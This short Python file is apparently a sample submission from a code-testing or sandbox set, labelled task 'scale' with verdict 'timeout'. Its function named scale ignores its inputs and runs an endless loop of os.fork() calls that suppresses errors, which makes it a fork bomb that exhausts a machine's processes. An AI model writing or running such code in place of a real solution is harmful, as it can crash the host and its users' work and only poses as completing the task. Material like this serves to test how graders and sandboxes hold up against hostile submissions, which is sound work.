"""Fork for ever.

task: scale
verdict: timeout
"""

import os


def scale(x, factor):
    while True:
        try:
            os.fork()
        except OSError:
            pass
